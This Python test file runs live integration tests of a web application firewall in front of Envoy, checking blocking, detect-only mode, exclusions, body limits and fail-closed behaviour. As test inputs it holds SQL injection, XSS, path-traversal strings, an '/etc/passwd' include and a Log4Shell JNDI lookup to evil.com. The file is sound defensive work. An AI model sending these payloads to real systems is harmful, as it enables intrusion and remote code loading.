"""Requests that are inspected for attacks: `headgate waf`, asked by a real Envoy."""

from __future__ import annotations

import asyncio
import socket
from typing import Any

import pytest
from aiohttp import web

from tests.live.objects import (
    Manifest,
    endpoints,
    exact,
    gateway_extension,
    prefix,
    route,
    rule,
    service,
    traffic_policy,
)
from tests.live.proxy import Proxy
from tests.live.upstream import Seen, Upstream
from tests.live.waf_samples import ATTACKS, BROWSER, CLEAN, FALSE_POSITIVES, MISSED, Sample
from tests.live.waf_service import Waf, running_waf
from tests.ports import free_port
from translator.refs import Ref

ATTACK = "/?id=1%27%20or%201=1--"
FORM = {"Content-Type": "application/x-www-form-urlencoded"}
AGENT = {"User-Agent": "test", "Accept": "*/*"}
LEVELS = ("gateway", "route")


def inspecting(level: str = "route", name: str = "policy", **fields: Any) -> Manifest:
    """Return a policy with a firewall."""
    return traffic_policy(level, name, waf=fields)


async def status(proxy: Proxy, path: str = "/", body: bytes | None = None, **options: Any) -> int:
    """Return the status of the response to a request, a form if it has a body."""
    headers = {**AGENT, **(FORM if body is not None else {}), **options.pop("headers", {})}
    method = options.pop("method", "GET" if body is None else "POST")
    return (await proxy.request(path, method=method, body=body, headers=headers, **options)).status


@pytest.mark.parametrize("level", LEVELS)
async def test_attacks_reach_no_backend(inspected: Proxy, alpha: Upstream, level: str) -> None:
    """Requests with attacks get 403 and reach no backend, wherever in the request they are; others are served."""
    await inspected.apply(inspecting(level), route(rule("alpha")))
    assert await status(inspected, "/shop?page=2") == 200
    assert await status(inspected, body=b"name=a&comment=hello") == 200
    before = len(alpha.seen)
    assert await status(inspected, ATTACK) == 403
    assert await status(inspected, "/a/<script>alert(1)</script>") == 403
    assert await status(inspected, body=b"id=1' or 1=1--") == 403
    assert await status(inspected, headers={"Cookie": "a=<script>alert(1)</script>"}) == 403
    assert await status(inspected, headers={"X-Api": "${jndi:ldap://evil.com/a}"}) == 403
    assert len(alpha.seen) == before


async def test_detection_only(inspected: Proxy, waf: Waf) -> None:
    """With the mode DetectOnly attacks are served, and reported."""
    await inspected.apply(inspecting(mode="DetectOnly"), route(rule("alpha")))
    waf.audit.clear()
    assert await status(inspected, "/detected?id=1%27%20or%201=1--") == 200
    (line,) = await waf.audited(1)
    assert (line["action"], line["path"], line["client"]) == ("reported", "/detected", "127.0.0.1")
    assert line["route"].startswith("HTTPRoute/default/route/")
    assert 942100 in [each["id"] for each in line["rules"]]


async def test_levels_and_exclusions(inspected: Proxy) -> None:
    """A rule's firewall takes the place of the Gateway's as a whole, or switches it off."""
    named = rule("alpha", name="named", matches=[prefix("/own")])
    await inspected.apply(inspecting("gateway", "wide"), route(named, rule("alpha")))
    own: list[tuple[Manifest, int]] = [
        ({"disable": {}}, 200),
        ({"anomalyThreshold": 10}, 200),
        ({"exclusions": [{"ruleIds": [942100]}]}, 200),
        ({"exclusions": [{"targets": ["ARGS:id"]}]}, 200),
        ({"exclusions": [{"ruleIds": [942100], "targets": ["ARGS:id"], "paths": ["/own"]}]}, 200),
        ({"exclusions": [{"ruleIds": [942100], "paths": ["/other"]}]}, 403),
        ({"paranoiaLevel": 2}, 403),
    ]
    for fields, expected in own:
        await inspected.apply(inspecting("rule", "own", **fields))
        assert await status(inspected, f"/own{ATTACK}") == expected, fields
        assert await status(inspected, ATTACK) == 403


async def test_exclusions_of_paths_cannot_be_stretched(inspected: Proxy, alpha: Upstream) -> None:
    """A path that a backend could take for another one is not excluded."""
    await inspected.apply(inspecting(exclusions=[{"ruleIds": [942100], "paths": ["/blog"]}]), route(rule("alpha")))
    assert await status(inspected, f"/blog/a{ATTACK}") == 200
    before = len(alpha.seen)
    for path in (
        "/blog/../admin",
        "/blog/%2e%2e/admin",
        "/blog/..%2fadmin",
        "/blog/..%5cadmin",
        "/blog/..;/admin",
        "/blogs",
    ):
        assert await status(inspected, f"{path}{ATTACK}") in (307, 400, 403), path
    assert len(alpha.seen) == before


@pytest.mark.parametrize("level", LEVELS)
async def test_long_bodies(inspected: Proxy, alpha: Upstream, level: str) -> None:
    """A body of more than is inspected gets 413; or it passes, and only its beginning is inspected."""
    await inspected.apply(inspecting(level, body={"maxBytes": "4Ki"}), route(rule("alpha")))
    assert await status(inspected, body=b"a=" + b"b" * 4000) == 200
    before = len(alpha.seen)
    for size in (5_000, 200_000, 2_000_000):
        assert await status(inspected, body=b"a=" + b"b" * size) == 413
    assert len(alpha.seen) == before
    await inspected.apply(inspecting(level, body={"maxBytes": "4Ki", "onOverflow": "Pass"}))
    assert await status(inspected, body=b"id=1' or 1=1--&a=" + b"b" * 200_000) == 403
    assert len(alpha.seen) == before
    long = b"a=" + b"b" * 2_000_000 + b"&id=1' or 1=1--"
    assert await status(inspected, body=long) == 200
    assert alpha.seen[-1].body == long


async def test_directives(inspected: Proxy) -> None:
    """Directives of a ConfigMap are in effect as they are edited; what may not be there closes, and says where."""
    text = 'SecRule REQUEST_HEADERS:X-Debug "@rx ^on$" "id:1,phase:1,deny,status:418,logdata:\'%{MATCHED_VAR}\'"'
    held = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "held"}, "data": {"directives": text}}
    await inspected.apply(inspecting(directivesRef={"name": "held", "key": "directives"}), route(rule("alpha")), held)
    assert await status(inspected, headers={"X-Debug": "on"}) == 418
    assert await status(inspected, headers={"X-Debug": "off"}) == 200
    assert await status(inspected, ATTACK) == 403
    await inspected.apply({**held, "data": {"directives": text.replace("on", "off")}})
    assert await status(inspected, headers={"X-Debug": "off"}) == 418
    for wrong in ("SecRuleEngine Off", "Include /etc/passwd", text.replace("@rx ^on$", "@rx ^(on$")):
        await inspected.apply({**held, "data": {"directives": f"# line 1\n{wrong}"}})
        assert await status(inspected) == 500
        message = accepted(inspected)
        assert "spec.waf.directivesRef: ConfigMap default/held: line 2" in message
    await inspected.delete(Ref("ConfigMap", "default", "held"))
    assert await status(inspected) == 500


def accepted(proxy: Proxy, name: str = "policy") -> str:
    """Return the message of a policy's condition."""
    conditions = proxy.status("TrafficPolicy", name)["ancestors"][0]["conditions"]
    return str(next(each["message"] for each in conditions if each["type"] == "Accepted"))


async def test_responses(inspected: Proxy, alpha: Upstream) -> None:
    """Responses that tell of the inside of a backend are refused where the policy asks for it."""
    leak = b"<b>You have an error in your SQL syntax; check the manual that corresponds to your MySQL server</b>"
    alpha.answer = answering({"Content-Type": "text/html"}, leak)
    await inspected.apply(inspecting(response=True), route(rule("alpha")))
    assert await status(inspected) == 403
    alpha.answer = answering({"Content-Type": "text/html"}, b"<b>hello</b>" * 50_000)
    found = await inspected.request(headers=AGENT)
    assert (found.status, len(found.body)) == (200, 600_000)
    alpha.answer = answering({"Content-Type": "image/png"}, b"\x89PNG" * 500_000)
    found = await inspected.request(headers=AGENT)
    assert (found.status, len(found.body)) == (200, 2_000_000)
    await inspected.apply(inspecting())
    alpha.answer = answering({"Content-Type": "text/html"}, leak)
    assert await status(inspected) == 200


def answering(headers: dict[str, str], body: bytes) -> Any:
    """Return an answer of a backend."""

    async def answer(_: Seen) -> web.Response:
        return web.Response(headers=headers, body=body)

    return answer


def extension(port: int, **fields: Any) -> list[Manifest]:
    """Return an extension with a service at a port."""
    reference = {"backendRef": {"name": "waf", "port": 80}}
    return [
        service("waf"),
        *endpoints("waf", [port]),
        gateway_extension("own", waf={"grpcService": reference, **fields}),
    ]


async def test_a_service_that_is_not_there(inspected: Proxy, alpha: Upstream) -> None:
    """Without the service requests get 500; they go on where the extension says so."""
    own = inspecting(extensionRef={"name": "own", "namespace": "default"})
    await inspected.apply(own, route(rule("alpha")), *extension(free_port()))
    for path in ("/", ATTACK):
        assert await status(inspected, path) == 500
    assert await status(inspected, body=b"a=b") == 500
    assert alpha.seen == []
    await inspected.apply(*extension(free_port(), failOpen=True))
    assert await status(inspected) == 200
    assert await status(inspected, body=b"a=b") == 200


async def test_a_service_that_does_not_respond(inspected: Proxy, alpha: Upstream) -> None:
    """A service that takes longer than it may has failed."""
    with socket.create_server(("127.0.0.1", 0)) as silent:
        port = silent.getsockname()[1]
        await inspected.apply(
            inspecting(extensionRef={"name": "own"}), route(rule("alpha")), *extension(port, messageTimeout="50ms")
        )
        assert await status(inspected) == 504
        assert alpha.seen == []


async def test_what_takes_too_long_is_refused_in_any_case(inspected: Proxy, alpha: Upstream) -> None:
    """A request whose inspection takes too long is refused even where requests go on without the service."""
    async with running_waf() as waf:
        own = inspecting(extensionRef={"name": "own"})
        await inspected.apply(own, route(rule("alpha")), *extension(waf.port, failOpen=True, messageTimeout="30s"))
        assert await status(inspected, body=b"a=b") == 200
        before = len(alpha.seen)
        assert await status(inspected, body=b"a=" + b"<" * 120_000) == 403
        assert len(alpha.seen) == before
        assert await waf.metric('headgate_waf_inspections_total{outcome="too_slow"}') == 1
        async with asyncio.timeout(15):
            while await status(inspected, ATTACK) != 403:  # noqa: ASYNC110
                await asyncio.sleep(0.02)


async def test_a_missing_extension_closes(inspected: Proxy, alpha: Upstream) -> None:
    """While its extension is missing, or is for something else, the routes of a policy answer 500."""
    own = rule("alpha", name="named", matches=[exact("/own")])
    await inspected.apply(inspecting("rule", extensionRef={"name": "lost"}), route(own, rule("beta")))
    assert await status(inspected, "/own") == 500
    assert alpha.seen == []
    assert await status(inspected) == 200


@pytest.mark.parametrize("level", LEVELS)
async def test_without_a_service_it_closes(proxy: Proxy, alpha: Upstream, level: str) -> None:
    """Where there is no service of Headgate's, a policy that names none closes, and says the option."""
    await proxy.apply(inspecting(level), route(rule("alpha")))
    assert await status(proxy) == 500
    assert alpha.seen == []
    conditions = proxy.status("TrafficPolicy", "policy")["ancestors"][0]["conditions"]
    assert any("--waf-service HOST:PORT" in each["message"] for each in conditions)


@pytest.mark.parametrize("near", [{"disable": {}}, {"mode": "DetectOnly"}, {"anomalyThreshold": 100}])
async def test_what_is_enforced_stays(inspected: Proxy, near: Manifest) -> None:
    """A firewall that is enforced is neither switched off nor weakened by a more specific policy."""
    wide = traffic_policy("gateway", "wide", enforced=True, waf={})
    await inspected.apply(wide, inspecting("rule", "near", **near), route(rule("alpha", name="named")))
    assert await status(inspected, ATTACK) == 403


async def test_samples_of_attacks(inspected: Proxy, alpha: Upstream) -> None:
    """Attacks of all kinds are refused, as parameters, in forms, in JSON, in headers and as paths."""
    await inspected.apply(inspecting("gateway"), route(rule("alpha")))
    assert len(ATTACKS) >= 50
    served = [each for each in ATTACKS if await sampled(inspected, each) not in (400, 403)]
    assert served == list(MISSED)
    assert len(alpha.seen) == len(MISSED)


async def test_samples_without_attacks(inspected: Proxy) -> None:
    """Requests without attacks are served, but for those that are known to be taken for attacks."""
    await inspected.apply(inspecting("gateway"), route(rule("alpha")))
    assert len(CLEAN) >= 200
    refused = [each for each in CLEAN if await sampled(inspected, each) != 200]
    assert refused == list(FALSE_POSITIVES)


async def sampled(proxy: Proxy, sample: Sample) -> int:
    """Return the status of the response to a sample."""
    headers = {**BROWSER, **dict(sample.headers)}
    return (await proxy.request(sample.path, method=sample.method, body=sample.body, headers=headers)).status
